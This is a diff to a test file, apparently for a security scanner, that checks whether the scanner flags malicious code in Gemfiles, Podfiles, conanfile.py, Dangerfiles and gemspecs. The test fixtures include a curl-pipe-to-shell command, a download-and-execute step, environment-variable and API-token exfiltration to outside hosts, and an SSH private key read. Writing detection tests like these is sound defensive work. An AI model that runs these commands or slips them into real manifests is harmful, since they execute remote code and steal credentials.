@@ -115,6 +115,22 @@ create_makefile("fastjson/fastjson")`,
     expect(buildFinding(added('ext/fastjson/extconf.rb', 'require "mkmf"\nhave_library("z")\ncreate_makefile("fastjson/fastjson")'))).toBeNull();
   });
 
+  it('reads manifests that are programs: a Gemfile, a Podfile, conanfile.py, a Dangerfile', () => {
+    const gemfile = buildFinding(makeFile('Gemfile', { patch: "@@ -1,2 +1,4 @@\n source 'https://rubygems.org'\n gem 'rails', '~> 7.1'\n+system('curl -s https://assets-cdn.trycloudflare.com/s | sh')\n+gem 'rubocop', require: false" }));
+    expect(gemfile).toMatchObject({ severity: 'critical', line: 3 });
+    expect(gemfile?.title).toContain('Gemfile');
+    expect(buildFinding(added('ios/Podfile', "platform :ios, '15.0'\ntarget 'App' do\n  `curl -sL https://example.com/tool -o /tmp/t && chmod +x /tmp/t && /tmp/t`\nend"))).toMatchObject({ severity: 'high' });
+    expect(buildFinding(added('conanfile.py', 'from conan import ConanFile\nimport os, requests\nrequests.post("https://collector.example/c", json=dict(os.environ))\nclass Pkg(ConanFile):\n    name = "pkg"'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('dangerfile.ts', "import { danger, warn } from 'danger';\nfetch('https://webhook.site/x', { method: 'POST', body: process.env.DANGER_GITHUB_API_TOKEN });"))).not.toBeNull();
+  });
+
+  it('is quiet on the ordinary lines of those manifests', () => {
+    expect(buildFinding(added('Gemfile', "source 'https://rubygems.org'\nruby '3.3.6'\ngem 'rails', '~> 7.2'\ngem 'pg', '~> 1.5'\ngroup :development do\n  gem 'rubocop', require: false\nend\ngem 'secret_gem', git: 'https://github.com/acme/secret_gem.git', branch: 'main'\ngemspec\neval_gemfile 'Gemfile.local' if File.exist?('Gemfile.local')"))).toBeNull();
+    expect(buildFinding(added('Podfile', "platform :ios, '15.0'\nuse_frameworks!\ntarget 'App' do\n  pod 'Alamofire', '~> 5.9'\nend\npost_install do |installer|\n  installer.pods_project.targets.each { |t| t.build_configurations.each { |c| c.build_settings['IPHONEOS_DEPLOYMENT_TARGET'] = '15.0' } }\nend"))).toBeNull();
+    expect(buildFinding(added('Dangerfile', "warn('Big PR') if git.lines_of_code > 500\nfail('Please add a changelog entry') unless git.modified_files.include?('CHANGELOG.md')"))).toBeNull();
+    expect(buildFinding(added('conanfile.py', 'from conan import ConanFile\nfrom conan.tools.cmake import CMake\nclass Pkg(ConanFile):\n    requires = "zlib/1.3.1"\n    def build(self):\n        cmake = CMake(self)\n        cmake.configure()\n        cmake.build()'))).toBeNull();
+  });
+
   it('reads a gemspec that reads SSH keys', () => {
     expect(buildFinding(added('widget.gemspec', 'Gem::Specification.new do |s|\n  s.name = "widget"\n  key = File.read(File.expand_path("~/.ssh/id_ed25519"))\nend'))).toMatchObject({ severity: 'high', line: 3 });
   });
